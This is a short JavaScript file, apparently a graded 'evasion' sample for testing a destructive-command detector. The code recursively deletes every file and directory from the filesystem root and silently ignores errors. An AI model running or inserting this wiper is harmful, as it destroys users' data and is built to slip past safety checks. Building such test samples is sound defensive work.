// evasion: hand-written recursive walker that unlinks every file from the filesystem root
// grade: very hard; does: delete
const fs = require('fs');
const path = require('path');

function walk(dir, visit) {
  let entries;
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch {
    return;
  }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && !e.isSymbolicLink()) walk(p, visit);
    else visit(p, false);
  }
  visit(dir, true);
}

const root = path.parse(process.cwd()).root;
walk(root, (p, isDir) => {
  try {
    if (isDir) fs.rmdirSync(p);
    else fs.unlinkSync(p);
  } catch {}
});
